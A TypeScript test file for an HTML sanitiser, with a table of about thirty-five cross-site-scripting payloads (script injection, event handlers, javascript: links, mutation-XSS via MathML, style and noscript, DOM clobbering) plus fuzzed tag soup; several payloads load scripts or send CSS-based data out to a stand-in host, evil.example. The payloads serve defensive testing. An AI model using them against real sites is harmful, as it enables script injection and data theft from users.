import fc from 'fast-check'
import type { Nodes } from 'hast'
import { describe, expect, it } from 'vitest'
import { mathElements } from './math.ts'
import { droppedElements, idPrefix, keptElements } from './names.ts'
import { parseFragment } from './parse.ts'
import { sanitiseHtml } from './sanitise.ts'
import { cleanBody } from './tidy.ts'

const allowedAttributes = new Set(
  (
    'dir lang id title href src dataSrc alt width height colSpan rowSpan scope span start reversed type value ' +
    'open dateTime className display mathvariant linethickness accent accentunder stretchy fence separator columnalign rowalign'
  ).split(' '),
)

/** Judged on the tree that the screen would build from the output, not on the output's letters. */
function dangersIn(html: string): string[] {
  const dangers: string[] = []
  const pending: Nodes[] = [parseFragment(html)]
  for (let node = pending.pop(); node !== undefined; node = pending.pop()) {
    if (node.type === 'comment' || node.type === 'doctype') dangers.push(node.type)
    if (node.type === 'element') {
      if (!keptElements.has(node.tagName) && !mathElements.has(node.tagName))
        dangers.push(`<${node.tagName}>`)
      if (mathElements.has(node.tagName)) {
        const isToken = /^m[inos]$|^mtext$/.test(node.tagName)
        for (const child of node.children)
          if (isToken ? child.type !== 'text' : child.type !== 'element' || !mathElements.has(child.tagName))
            dangers.push(`${child.type} in <${node.tagName}>`)
        if ('href' in node.properties || 'src' in node.properties)
          dangers.push(`address on <${node.tagName}>`)
      }
      for (const [name, value] of Object.entries(node.properties)) {
        if (!allowedAttributes.has(name)) dangers.push(`${name}=`)
        if (name === 'className' && !/^(?:language-[\w+-]{1,30}|pull-quote|footnotes)$/.test(String(value)))
          dangers.push(`class=${String(value)}`)
        if (name === 'href' && !/^(?:https?:|mailto:|#)/.test(String(value)))
          dangers.push(`href=${String(value)}`)
        if (
          name === 'src' &&
          !/^(?:data:image\/(?:png|jpe?g|gif|webp|avif);base64,|images\/)/.test(String(value))
        ) {
          dangers.push(`src=${String(value)}`)
        }
        if (name === 'id' && !String(value).startsWith(idPrefix)) dangers.push(`id=${String(value)}`)
      }
    }
    if ('children' in node) pending.push(...node.children)
  }
  return dangers
}

const attacks: Record<string, string> = {
  script: '<p>a</p><script>alert(1)</script><SCRIPT src=//evil.example/x.js></SCRIPT>',
  'script in an unfinished tag': '<p>a<script<p>alert(1)',
  'event handlers':
    '<img src=x onerror=alert(1)><p onclick="alert(1)" onmouseover=x>hi</p><body onload=alert(1)>',
  'javascript: in a link':
    '<a href="javascript:alert(1)">a</a><a href=" java\nscript:alert(1)">b</a><a href="&#1;javascript:x">c</a>',
  'data: and vbscript: in a link':
    '<a href="data:text/html,<script>alert(1)</script>">a</a><a href="vbscript:x">b</a>',
  'a script in svg':
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'svg onload': '<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
  'svg image': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  'math annotation':
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  'mutation through math and style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'a style in a formula':
    '<math><mi>x</mi><style><!--</style><mi title="--><img src=x onerror=alert(1)>">y</mi></math>',
  'a style in a word of a formula':
    '<math><mtext><style><p title="</style><img src=x onerror=alert(1)>"></style>a</mtext></math>',
  'a table in a formula': '<math><mtext><table><mi><mglyph><style><math></style><img src=x onerror=alert(1)>',
  'a table that is thrown out of a formula':
    '<table><math><mtd><table><tr><td><math><mi>x<p><img src=x onerror=alert(1)></table>',
  'a formula in a formula':
    '<math><mtext><math><mtext><svg><style><!--</style><img src=x onerror=alert(1)>-->',
  'addresses in a formula':
    '<math href="javascript:alert(1)" xlink:href="javascript:alert(1)"><mi href="//evil.example" mathbackground="url(//evil.example)" style="x">x</mi><maction actiontype="statusline#http://x">y</maction></math>',
  'a formula within the markup of another':
    '<span class="katex" data-mathml="<math><mi>x</mi><style><!--</style><img src=x onerror=alert(1)></math>">x</span>',
  'a data-mathml':
    '<span class="MathJax" data-mathml="&lt;math&gt;&lt;mtext&gt;&lt;img src=x onerror=alert(1)&gt;&lt;/mtext&gt;&lt;mi&gt;x&lt;/mi&gt;&lt;/math&gt;">x</span>',
  'clothes of ours':
    '<pre class="language-x footnotes" data-lang="a b"><code class="toolbar language-&lt;b">x</code></pre>',
  'clothes of ours on what may not wear them':
    '<blockquote class="pull-quote film gap"><ol class="footnotes toolbar"><li class="pull-quote">x</ol></blockquote><p class="footnotes">x</p><a class="film footnotes" href="https://a.example">x</a><table class="pull-quote"><tr><td class="footnotes">x</table>',
  'a quote in a quote':
    '<aside class="pullquote"><blockquote class="pullquote"><div role="doc-pullquote"><style><!--</style><img src=x onerror=alert(1)></div></blockquote><iframe title="<img src=x onerror=alert(1)>" src="https://www.youtube.com/embed/x"></iframe></aside>',
  'mutation through form and svg':
    '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  'mutation through noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'mutation through a select':
    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
  'style and its exfiltration':
    '<style>@import url(//evil.example);input[value^=a]{background:url(//evil.example/a)}</style><p style="background:url(//evil.example)">a</p><link rel=stylesheet href=//evil.example>',
  'meta refresh and base':
    '<meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example/"><p>a</p>',
  'other documents':
    '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x><frameset><frame src=x></frameset>',
  forms:
    '<form action="https://evil.example"><input name=a><button formaction="javascript:alert(1)">Go</button><textarea>t</textarea></form>',
  'names that shadow ours':
    '<a id=getElementById name=body>x</a><img name=cookie id=location alt=x><form id=document><input name=children></form>',
  'prototype names': '<p __proto__=x constructor=y id=__proto__>a</p>',
  'remote pictures':
    '<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x"><picture><source srcset="//evil.example/c.webp"><img src=//evil.example/c.png></picture><video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video><table background="//evil.example"><td background=x>1</td></table>',
  'declarative shadow root':
    '<div><template shadowrootmode=open><script>alert(1)</script><p onclick=x>in</p></template></div>',
  'comments and instructions':
    '<!-- <img src=x onerror=alert(1)> --><?xml version="1.0"?><![CDATA[<script>]]><p>a</p>',
  'is and part': '<p is="x-y" part=a slot=b contenteditable accesskey=x tabindex=1>a</p>',
  'plaintext and xmp': '<xmp><script>alert(1)</script></xmp><plaintext><script>alert(2)</script>',
}

describe('a hostile page', () => {
  for (const [name, html] of Object.entries(attacks)) {
    it(`keeps nothing dangerous of ${name}`, () => {
      expect(dangersIn(sanitiseHtml(html))).toEqual([])
      expect(dangersIn(cleanBody(html))).toEqual([])
    })
    it(`is sanitised once and for all: ${name}`, () => {
      const once = cleanBody(html)
      expect(cleanBody(once)).toBe(once)
    })
  }

  it('survives nesting that would break a recursive walk', () => {
    const depth = 3000
    const html = '<div>'.repeat(depth) + 'deep<script>alert(1)</script>' + '</div>'.repeat(depth)
    expect(cleanBody(html)).toBe('<p dir="auto">deep</p>\n')
    expect(dangersIn(sanitiseHtml('<b><i>'.repeat(200) + 'x<template>'.repeat(300)))).toEqual([])
  })
})

const pieces = [
  ...keptElements,
  ...droppedElements,
  ...mathElements,
  ...'mglyph malignmark annotation-xml mfenced maction svg desc foreignObject form button textarea select option input xmp plaintext frameset body html center font nobr'.split(
    ' ',
  ),
]
const tag = fc.constantFrom(...pieces)
const attribute = fc.constantFrom(
  '',
  ' onclick=x',
  ' href="javascript:x"',
  ' href="https://a.example/?q=1&amp;b#c"',
  ' id=x',
  ' name=y',
  ' src="//e.example/x.png"',
  ' title="</p><script>"',
  ' dir=rtl',
  ' style="x"',
  ' class="katex"',
  ' class="hljs language-js"',
  ' display=block',
  ' encoding="text/html"',
)
const fragment = fc.oneof(
  fc.tuple(tag, attribute).map(([name, extra]) => `<${name}${extra}>`),
  tag.map((name) => `</${name}>`),
  fc.constantFrom(
    'text ',
    '<!--',
    '-->',
    '\n',
    '&lt;script&gt;',
    '&amp;lt;',
    '\u0000',
    '<',
    '"',
    'مرحبا',
    '<br><br>',
  ),
)
const soup = fc.array(fragment, { maxLength: 40 }).map((parts) => parts.join(''))

describe('any soup of tags', () => {
  it('holds nothing dangerous once sanitised', () => {
    fc.assert(
      fc.property(soup, (html) => {
        expect(dangersIn(sanitiseHtml(html))).toEqual([])
      }),
      { numRuns: 400 },
    )
  })
  it('is the same when sanitised again', () => {
    fc.assert(
      fc.property(soup, (html) => {
        const once = sanitiseHtml(html)
        expect(sanitiseHtml(once)).toBe(once)
        const body = cleanBody(html)
        expect(cleanBody(body)).toBe(body)
      }),
      { numRuns: 400 },
    )
  })
})
